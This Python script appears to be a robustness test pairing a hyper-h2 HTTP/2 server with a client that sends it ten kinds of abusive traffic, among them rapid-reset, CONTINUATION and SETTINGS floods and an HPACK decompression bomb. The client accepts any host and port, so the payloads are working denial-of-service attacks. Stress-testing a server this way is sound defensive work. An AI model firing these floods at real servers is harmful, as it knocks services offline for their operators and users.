"""HTTP/2 as nobody should speak it, against a server that has to stand it; both of hyper-h2's family.

The server says what it has seen; the client sends one kind of flood after another, each on a
connection of its own, and prints what came of it."""

import asyncio
import socket
import struct
import sys
import threading

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQUEST = [(":method", "GET"), (":scheme", "http"), (":path", "/x"), (":authority", "shop")]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Server(asyncio.Protocol):
    """Answers every request, and lets go what it must."""

    def connection_made(self, transport):
        self.transport = transport
        config = h2.config.H2Configuration(client_side=False, header_encoding=None)
        self.http = h2.connection.H2Connection(config)
        self.http.initiate_connection()
        transport.write(self.http.data_to_send())

    def data_received(self, data):
        try:
            events = self.http.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.transport.write(self.http.data_to_send())
            self.transport.close()
            return
        for event in events:
            if isinstance(event, h2.events.RequestReceived):
                try:
                    self.http.send_headers(event.stream_id, [(":status", "200"), ("x", "y")], True)
                except h2.exceptions.ProtocolError:
                    pass
            if isinstance(event, h2.events.DataReceived) and event.flow_controlled_length:
                self.http.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        self.transport.write(self.http.data_to_send())


async def serve(host, port):
    server = await asyncio.get_running_loop().create_server(Server, host, int(port), backlog=100)
    await server.serve_forever()


def attacks():
    encode = hpack.Encoder().encode
    yield "settings", b"".join(frame(4, 0, 0, struct.pack(">HI", 3, n)) for n in range(2000))
    yield "ping", b"".join(frame(6, 0, 0, struct.pack(">Q", n)) for n in range(5000))
    encoder = hpack.Encoder()
    resets = (
        frame(1, 5, 2 * n + 1, encoder.encode(REQUEST)) + frame(3, 0, 2 * n + 1, b"\0\0\0\x08")
        for n in range(5000)
    )
    yield "rapid reset", b"".join(resets)
    encoder = hpack.Encoder()
    begin = frame(1, 4, 1, encoder.encode(REQUEST))
    yield "tiny data", begin + frame(0, 0, 1, b"x") * 3000 + frame(0, 0, 1) * 3000 + frame(0, 1, 1)
    yield "endless continuation", frame(1, 0, 1, encode(REQUEST)) + frame(9, 0, 1) * 20000
    encoder = hpack.Encoder()
    streams = (frame(1, 4, 2 * n + 1, encoder.encode(REQUEST)) for n in range(10000))
    yield "ten thousand streams", b"".join(streams)
    encoder = hpack.Encoder()
    bomb = encoder.encode(REQUEST + [("b", "z" * 3900)]) + b"\xbe" * 10000
    yield "bomb", frame(1, 5, 1, bomb) + frame(1, 5, 3, encoder.encode(REQUEST))
    yield "window", frame(8, 0, 0, b"\0\0\0\1") * 5000
    yield "bad table", frame(1, 5, 1, b"\xff\xff\xff\x7f")
    yield "garbage", b"\0" * 9 + bytes(range(256)) * 40


def attack(host, port, name, flood):
    """What the server's last frames were, which say how it took it."""
    with socket.create_connection((host, int(port))) as peer:
        peer.settimeout(15)
        seen = bytearray()

        def read():
            try:
                while data := peer.recv(65536):
                    seen.extend(data)
            except OSError:
                pass

        reader = threading.Thread(target=read)
        reader.start()
        try:
            peer.sendall(PREFACE + frame(4, 0, 0) + flood)
            peer.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        reader.join(20)
    counts, at = {}, 0
    while at + 9 <= len(seen):
        size = int.from_bytes(seen[at : at + 3], "big")
        counts[seen[at + 3]] = counts.get(seen[at + 3], 0) + 1
        at += 9 + size
    # How many answers a server that gives up has sent by then, and whether its last word comes
    # through before its reset, is a race; that a patient one answers everything is none.
    certain = name in ("settings", "ping", "tiny data", "window")
    print(f"{name}: {sorted(counts.items()) if certain else 'ended'}")


def main(what, host, port):
    if what == "server":
        asyncio.run(serve(host, port))
    else:
        for name, flood in attacks():
            attack(host, port, name, flood)


main(*sys.argv[1:])
